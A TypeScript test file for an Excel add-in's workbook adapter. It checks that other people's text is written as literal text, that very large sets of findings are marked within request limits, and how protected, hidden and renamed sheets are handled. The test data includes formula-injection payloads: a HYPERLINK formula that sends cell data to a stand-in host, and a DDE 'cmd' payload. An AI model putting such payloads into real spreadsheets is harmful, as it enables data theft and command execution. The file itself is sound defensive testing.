import type { Finding } from "@coop-plans/shared/domain";
import { ExcelWorkbookHost } from "../../addin/src/excel/ExcelWorkbookHost";
import { MARKS_SETTING, NOTES_PER_SHEET } from "../../addin/src/excel/markCells";
import { HostError } from "../../addin/src/host/WorkbookHost";
import { MARK_FILLS, NOTE_PREFIX } from "../../addin/src/host/markStyle";
import { REQUEST_LIMIT_BYTES } from "../../addin/src/host/requestBudget";
import { FakeExcel, memorySettings } from "./support/fakeExcel";

// The add-in's Excel adapter under hostile text and awkward workbooks (issue 13, items 13-15), on
// the fake Excel host: formulas in other people's text, thousands of findings, protected, hidden
// and renamed sheets.

const finding = (sheet: string, cell: string, severity: Finding["severity"] = "error", message = `Problema en ${cell}`): Finding =>
  ({ ruleId: "INV-001", severity, message, location: { sheet, cell } });

function excel(notes = true) {
  const fx = new FakeExcel();
  const settings = memorySettings();
  const host = new ExcelWorkbookHost({ run: fx.run, isSetSupported: (_n, v) => notes || v !== "1.18", settings });
  return { fx, host, settings };
}

const HOSTILE = ["=HYPERLINK(\"http://malo.example/?d=\"&A1,\"Ver\")", "+56 9 1234 5678", "-descuento", "@SUMA(A1:A9)", "'cita", "=1+1"];

describe("text from other people stays text (item 13)", () => {
  it("the Consolidado sheet writes names starting with = + - @ ' as the exact text, never a formula", async () => {
    const { fx, host } = excel();
    const name = await host.writeConsolidated({
      title: "=Consolidado",
      blocks: [{ title: "Cooperativas", header: ["Nombre", "Total"], rows: HOSTILE.map((h, i) => [h, i * 1000]) }],
    });
    const sheet = fx.sheet(name);
    const cells = [...sheet.cells.values()];
    // Before: "=HYPERLINK(…)" and "=1+1" were written as formulas (the fake marks them like Excel).
    expect(cells.filter((c) => c.formula !== undefined)).toEqual([]);
    expect(sheet.at("A1").value).toBe("=Consolidado");
    expect(HOSTILE.map((_, i) => sheet.at(`A${5 + i}`).value)).toEqual(HOSTILE);
    expect(sheet.at("B6").value).toBe(1000); // numbers stay numbers
  });

  it("the progress report and the server's copy of a plan do the same", async () => {
    const { fx, host } = excel();
    const report = await host.writeProgressReport({ title: "Informe", blocks: [{ title: "Observaciones", header: ["Observación"], rows: [["=ESTO NO ES FÓRMULA"]] }] });
    expect(fx.sheet(report).at("A5")).toEqual(expect.objectContaining({ value: "=ESTO NO ES FÓRMULA" }));
    expect(fx.sheet(report).at("A5").formula).toBeUndefined();
    const copy = await host.writePlanCopy({ sheets: [{ name: "Cooperativa", values: [["Nombre", "=cmd|' /C calc'!A0"]], frozenRows: 0, columnWidths: [20, 20], numberFormats: [], validations: [] }] }, "Servidor v2");
    expect(fx.sheet(copy).at("B4").value).toBe("=cmd|' /C calc'!A0");
    expect(fx.sheet(copy).at("B4").formula).toBeUndefined();
  });
});

describe("marking thousands of findings (item 14)", () => {
  function bigWorkbook(findingCount: number) {
    const { fx, host, settings } = excel();
    const inv = fx.addSheet("Plan de Inversiones");
    const findings: Finding[] = [];
    for (let i = 0; i < findingCount; i++) {
      const cell = `${"ABCDEFGHIJ"[i % 10]}${2 + Math.floor(i / 10)}`;
      if (i % 7 === 0) inv.at(cell).fill = "#00B050"; // some cells have the user's own fill
      findings.push(finding("Plan de Inversiones", cell, i % 3 === 0 ? "warning" : "error", `La línea ${i} supera el tope del ítem por $${(i * 1234).toLocaleString("es-CL")}; revise el monto, el proveedor y la cotización adjunta antes de enviar.`));
    }
    return { fx, host, settings, inv, findings };
  }

  it("keeps every request under 5 MB with 30,000 findings, notes only the first cells of a sheet and says so", async () => {
    const { fx, host, inv, findings } = bigWorkbook(30_000);
    const result = await host.markFindings(findings);
    // Before: one request with every probe, then one with every fill and note: ~6 MB, refused.
    expect(fx.refusedSyncs).toBe(0);
    for (const bytes of [...fx.requestBytes, ...fx.responseBytes]) expect(bytes).toBeLessThan(REQUEST_LIMIT_BYTES);
    expect(fx.syncs).toBeGreaterThan(3);
    expect(result.cells).toBe(30_000);
    expect(result.notes).toBe(NOTES_PER_SHEET);
    expect(inv.notes.size).toBe(NOTES_PER_SHEET);
    expect(inv.notes.get("A2")!.startsWith(NOTE_PREFIX)).toBe(true);
    expect(inv.at("J3000").fill).toBe(MARK_FILLS.error);
    expect(result.warnings).toEqual([`En la hoja «Plan de Inversiones» hay 30.000 celdas con hallazgos: las primeras ${NOTES_PER_SHEET} llevan nota y las demás solo el color. La lista del panel tiene todos los hallazgos.`]);
  });

  it("clearing restores every original fill, in bounded requests too", async () => {
    const { fx, host, settings, inv, findings } = bigWorkbook(30_000);
    await host.markFindings(findings);
    fx.resetCounters();
    await host.clearMarks();
    expect(fx.refusedSyncs).toBe(0);
    for (const bytes of fx.requestBytes) expect(bytes).toBeLessThan(REQUEST_LIMIT_BYTES);
    const fills = findings.map((f, i) => [f.location.cell, inv.at(f.location.cell!).fill, i % 7 === 0 ? "#00B050" : null]);
    expect(fills.filter(([, got, want]) => got !== want)).toEqual([]);
    expect(inv.notes.size).toBe(0);
    expect(settings.get(MARKS_SETTING)).toEqual([]);
  });
});

describe("protected, hidden and renamed sheets (item 15)", () => {
  it("does not touch a protected sheet, marks the others, and says why in Spanish", async () => {
    const { fx, host } = excel();
    fx.addSheet("Socios").protected = true;
    const inv = fx.addSheet("Plan de Inversiones");
    // Before: the fill write on the protected sheet made Excel reject the whole request (AccessDenied).
    const result = await host.markFindings([finding("Socios", "C2"), finding("Socios", "C3"), finding("Plan de Inversiones", "I6")]);
    expect(result.cells).toBe(1);
    expect(inv.at("I6").fill).toBe(MARK_FILLS.error);
    expect(fx.sheet("Socios").at("C2").fill).toBeNull();
    expect(result.warnings).toEqual(["La hoja «Socios» está protegida: sus 2 celdas con hallazgos no se marcaron (están en la lista). Desproteja la hoja (Revisar > Desproteger hoja) y vuelva a validar para verlas marcadas."]);
  });

  it("says «su celda» for one finding on a protected sheet (never «sus 1 celdas»)", async () => {
    const { fx, host } = excel();
    fx.addSheet("Socios").protected = true;
    const result = await host.markFindings([finding("Socios", "C2")]);
    expect(result.warnings).toEqual(["La hoja «Socios» está protegida: su celda con hallazgos no se marcó (está en la lista). Desproteja la hoja (Revisar > Desproteger hoja) y vuelva a validar para verla marcada."]);
  });

  it("keeps the marks of a sheet protected after marking, and clears them once it is unprotected", async () => {
    const { fx, host } = excel();
    const socios = fx.addSheet("Socios");
    await host.markFindings([finding("Socios", "C2")]);
    socios.protected = true;
    const blocked = await host.markFindings([]);
    expect(blocked.warnings?.[0]).toMatch(/^La hoja «Socios» está protegida: sus marcas anteriores no se pudieron quitar/);
    expect(socios.at("C2").fill).toBe(MARK_FILLS.error);
    socios.protected = false;
    await host.clearMarks();
    expect(socios.at("C2").fill).toBeNull();
    expect(socios.notes.size).toBe(0);
  });

  it("clears the marks of a sheet renamed after Validar", async () => {
    const { fx, host } = excel();
    const inv = fx.addSheet("Plan de Inversiones");
    inv.at("I6").fill = "#FFFF00";
    await host.readGrids();
    await host.markFindings([finding("Plan de Inversiones", "I6"), finding("Plan de Inversiones", "I7")]);
    fx.rename("Plan de Inversiones", "Inversiones 2025");
    // Before: the marks were forgotten with the old name; the fills and notes stayed for good.
    await host.clearMarks();
    expect(inv.at("I6").fill).toBe("#FFFF00");
    expect(inv.at("I7").fill).toBeNull();
    expect(inv.notes.size).toBe(0);
  });

  it("going to a cell of a hidden sheet, or of a sheet gone since Validar, gives a Spanish message", async () => {
    const { fx, host } = excel();
    fx.addSheet("Socios").visibility = "Hidden";
    const hidden = host.selectCell("Socios", "C2");
    await expect(hidden).rejects.toBeInstanceOf(HostError);
    await expect(hidden).rejects.toThrow("La hoja «Socios» está oculta: muéstrela (clic derecho en una pestaña > Mostrar…) para ir a la celda C2.");
    await expect(host.selectCell("Plan de Acción", "B9")).rejects.toThrow("La hoja «Plan de Acción» ya no está en el libro (¿se renombró o se eliminó después de validar?). Pulse «Validar» de nuevo para ubicar los hallazgos.");
  });

  it("any other Office error reaches the pane as a Spanish HostError, never Excel's English text", async () => {
    const fx = new FakeExcel();
    const failing = async () => { throw Object.assign(new Error("The request payload size has exceeded the limit."), { code: "RequestPayloadSizeLimitExceeded" }); };
    const host = new ExcelWorkbookHost({ run: failing, isSetSupported: () => true, settings: memorySettings() });
    const read = host.readGrids();
    await expect(read).rejects.toBeInstanceOf(HostError);
    await expect(read).rejects.toThrow("El libro es demasiado grande para leer el libro de una vez en Excel en la Web. Use Excel de escritorio o divida el libro.");
    expect(fx.syncs).toBe(0);
  });
});
